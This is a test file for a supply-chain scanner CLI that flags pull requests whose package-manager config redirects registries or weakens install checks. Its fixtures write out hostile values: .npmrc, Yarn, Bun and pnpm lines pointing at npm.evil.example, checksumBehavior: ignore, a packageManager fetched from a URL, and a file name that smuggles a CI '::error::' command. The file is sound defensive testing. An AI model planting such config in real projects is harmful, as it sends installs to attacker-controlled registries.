/**
 * Attacks through the package managers' config, run through the built CLI
 * (`node dist/cli.js --base-dir … --head-dir …`): the lockfile stays byte for
 * byte the same and only the config changes where packages come from, how
 * they are checked or what runs at install. Each attack has a benign twin
 * that stays clean.
 *
 * What the real package managers do with such a tree is recorded in
 * test/fixtures/pm-config/NOTES.md (npm 11.19.1 and Yarn 4.18.1 against a
 * registry on 127.0.0.1 serving a payload under an unchanged name@version).
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ROOT } from '../helpers.js';
import { cliProcess } from '../support/cli.js';
import { sarifSchemaErrors } from '../support/sarif-schema.js';

const EXAMPLE = path.join(ROOT, 'examples', 'postmark-mcp', 'base');
const LOCKFILE = readFileSync(path.join(EXAMPLE, 'package-lock.json'), 'utf8');
const MANIFEST = JSON.parse(readFileSync(path.join(EXAMPLE, 'package.json'), 'utf8')) as Record<string, unknown>;
const dirs: string[] = [];

afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

/** Base and head trees: the same lockfile and package.json, plus each side's extra files. */
function trees(base: Record<string, string>, head: Record<string, string>): { base: string; head: string } {
  const root = mkdtempSync(path.join(os.tmpdir(), 'lockgate-pm-config-'));
  dirs.push(root);
  const write = (dir: string, files: Record<string, string>) => {
    const all = { 'package-lock.json': LOCKFILE, 'package.json': `${JSON.stringify(MANIFEST, null, 2)}\n`, ...files };
    for (const [file, text] of Object.entries(all)) {
      mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
      writeFileSync(path.join(dir, file), text);
    }
  };
  write(path.join(root, 'base'), base);
  write(path.join(root, 'head'), head);
  return { base: path.join(root, 'base'), head: path.join(root, 'head') };
}

interface JsonReport {
  fileFindings?: { kind: string; file: string; line?: number; key?: string; problem: string }[];
  messages: { level: string; message: string; file?: string; line?: number }[];
}

async function run(base: Record<string, string>, head: Record<string, string>, format = 'json') {
  const t = trees(base, head);
  const result = await cliProcess(['--base-dir', t.base, '--head-dir', t.head, '--offline', '--format', format]);
  return { ...result, report: format === 'json' ? (JSON.parse(result.stdout) as JsonReport) : undefined };
}

const withManager = (packageManager: string) => `${JSON.stringify({ ...MANIFEST, packageManager }, null, 2)}\n`;

describe('a PR that changes where packages come from, how they are checked or what runs at install', () => {
  it.each([
    ['.npmrc registry', {}, { '.npmrc': 'registry=https://npm.evil.example/\n' }, '.npmrc', 'registry', 1],
    [
      '.npmrc scope registry',
      { '.npmrc': 'fund=false\n' },
      { '.npmrc': 'fund=false\n@acme:registry=https://npm.evil.example/\n' },
      '.npmrc',
      '@acme:registry',
      2,
    ],
    [
      '.yarnrc.yml registry and checksum behaviour (what Yarn 4 installs the payload with)',
      { '.yarnrc.yml': 'nodeLinker: node-modules\n' },
      {
        '.yarnrc.yml':
          'nodeLinker: node-modules\nnpmRegistryServer: "http://127.0.0.1:47311"\nunsafeHttpWhitelist:\n  - "127.0.0.1"\nchecksumBehavior: ignore\n',
      },
      '.yarnrc.yml',
      'npmRegistryServer',
      2,
    ],
    [
      '.yarnrc.yml yarnPath',
      { '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.5.0.cjs\n' },
      { '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.5.1.cjs\n' },
      '.yarnrc.yml',
      'yarnPath',
      1,
    ],
    [
      '.yarnrc.yml plugins',
      {},
      { '.yarnrc.yml': 'plugins:\n  - path: .yarn/plugins/helper.cjs\n' },
      '.yarnrc.yml',
      'plugins',
      1,
    ],
    ['.yarnrc registry (yarn 1)', {}, { '.yarnrc': 'registry "https://npm.evil.example"\n' }, '.yarnrc', 'registry', 1],
    ['.pnpmfile.cjs', {}, { '.pnpmfile.cjs': 'module.exports = { hooks: {} };\n' }, '.pnpmfile.cjs', '.pnpmfile', 1],
    [
      'bunfig.toml registry',
      {},
      { 'bunfig.toml': '[install]\nregistry = "https://npm.evil.example/"\n' },
      'bunfig.toml',
      'install.registry',
      2,
    ],
    [
      'pnpm-workspace.yaml registry',
      { 'pnpm-workspace.yaml': 'packages: []\n' },
      { 'pnpm-workspace.yaml': 'packages: []\nregistry: https://npm.evil.example/\n' },
      'pnpm-workspace.yaml',
      'registry',
      2,
    ],
    [
      'packageManager from a URL',
      { 'package.json': withManager('npm@10.9.0') },
      { 'package.json': withManager('npm@https://npm.evil.example/npm.tgz') },
      'package.json',
      'packageManager',
      undefined,
    ],
    [
      'packageManager switched to another manager',
      { 'package.json': withManager('npm@10.9.0') },
      { 'package.json': withManager('yarn@4.5.0') },
      'package.json',
      'packageManager',
      undefined,
    ],
    [
      '.npmrc in a workspace folder',
      {},
      { 'packages/app/.npmrc': 'registry=https://npm.evil.example/\n' },
      'packages/app/.npmrc',
      'registry',
      1,
    ],
  ] as [string, Record<string, string>, Record<string, string>, string, string, number | undefined][])(
    '%s: exit 1 with a policy finding on the file',
    async (_name, base, head, file, key, line) => {
      const { code, report, stderr } = await run(base, head);
      expect(code, stderr).toBe(1);
      const finding = report!.fileFindings?.find((f) => f.key === key);
      expect(finding).toMatchObject({ kind: 'config-changed', file });
      if (line !== undefined) expect(finding!.line).toBe(line);
      expect(finding!.problem).not.toMatch(/malicious|malware|rotate/i);
    },
  );

  it('the text output names the file, calls it policy and says nothing of malware or rotation', async () => {
    const { code, stdout } = await run({}, { '.npmrc': 'registry=https://npm.evil.example/\n' }, 'text');
    expect(code).toBe(1);
    expect(stdout.split('\n')[0]).toContain('1 policy finding in package-manager config or manifests');
    expect(stdout).toContain('.npmrc:1: sets registry to https://npm.evil.example/');
    expect(stdout).not.toMatch(/malicious package version found|rotate/i);
  });

  it('SARIF has the config finding on its own file and line, as policy with help, never as malware', async () => {
    const { code, stdout } = await run({}, { '.npmrc': 'registry=https://npm.evil.example/\n' }, 'sarif');
    expect(code).toBe(1);
    const log = JSON.parse(stdout) as {
      runs: {
        tool: { driver: { rules: { id: string; help: { text: string }; properties: Record<string, unknown> }[] } };
        results: { ruleId: string; level: string; message: { text: string }; locations: unknown[] }[];
      }[];
    };
    expect(sarifSchemaErrors(log)).toEqual([]);
    const [result] = log.runs[0]!.results;
    expect(result).toMatchObject({
      ruleId: 'policy/config-changed',
      level: 'error',
      locations: [{ physicalLocation: { artifactLocation: { uri: '.npmrc' }, region: { startLine: 1 } } }],
    });
    expect(result!.message.text).toContain('sets registry to https://npm.evil.example/');
    const rule = log.runs[0]!.tool.driver.rules.find((r) => r.id === 'policy/config-changed')!;
    expect(Number(rule.properties['security-severity'])).toBeLessThan(9);
    expect(JSON.stringify(log)).not.toMatch(/malware|malicious|rotate/i);
  });

  it('a registry URL with credentials is reported without them', async () => {
    const { code, stdout } = await run({}, { '.npmrc': 'registry=https://bob:hunter2@npm.evil.example/\n' }, 'text');
    expect(code).toBe(1);
    expect(stdout).not.toContain('hunter2');
  });
});

describe('benign twins stay clean', () => {
  it.each([
    ['an unrelated .npmrc setting', { '.npmrc': 'fund=false\n' }, { '.npmrc': 'fund=false\naudit=false\n' }],
    [
      'an auth token line (never read)',
      { '.npmrc': '@acme:registry=https://npm.pkg.github.com\n' },
      { '.npmrc': '@acme:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}\n' },
    ],
    [
      'the same registry with a trailing slash',
      { '.npmrc': 'registry=https://npm.acme.example/repository/npm' },
      { '.npmrc': 'registry=https://npm.acme.example/repository/npm/\n' },
    ],
    [
      'a .yarnrc.yml layout setting',
      { '.yarnrc.yml': 'nodeLinker: pnp\n' },
      { '.yarnrc.yml': 'nodeLinker: node-modules\n' },
    ],
    [
      'a packageManager release of the same manager (a note)',
      { 'package.json': withManager('pnpm@10.32.1') },
      { 'package.json': withManager('pnpm@10.33.0') },
    ],
    ['yarnPath removed', { '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.5.0.cjs\n' }, { '.yarnrc.yml': '' }],
    [
      'checksumBehavior back to throw',
      { '.yarnrc.yml': 'checksumBehavior: ignore\n' },
      { '.yarnrc.yml': 'checksumBehavior: throw\n' },
    ],
  ] as [string, Record<string, string>, Record<string, string>][])('%s: exit 0', async (_name, base, head) => {
    const { code, report, stderr } = await run(base, head);
    expect(code, stderr).toBe(0);
    expect(report!.fileFindings ?? []).toEqual([]);
  });

  it('a same-manager packageManager bump is a note naming both versions', async () => {
    const { report } = await run(
      { 'package.json': withManager('pnpm@10.32.1') },
      { 'package.json': withManager('pnpm@10.33.0') },
    );
    expect(report!.messages).toContainEqual(
      expect.objectContaining({
        level: 'note',
        file: 'package.json',
        message: expect.stringContaining('pnpm@10.33.0'),
      }),
    );
  });
});

describe('config the package manager cannot read', () => {
  it('a head pnpm-workspace.yaml with a duplicate key (pnpm refuses it) is exit 2 naming the file and line', async () => {
    const { code, stderr } = await run({}, { 'pnpm-workspace.yaml': 'registry: a\nregistry: b\n' }, 'text');
    expect(code).toBe(2);
    expect(stderr).toContain('pnpm-workspace.yaml:2');
  });

  it('a config path with a line break is never printed raw', async () => {
    const { code, stdout } = await run(
      {},
      { 'evil\n::error::x/.npmrc': 'registry=https://npm.evil.example/\n' },
      'text',
    );
    expect(code).toBe(1);
    expect(stdout).not.toMatch(/^::error::/m);
    expect(stdout).toContain('evil?::error::x/.npmrc');
  });
});
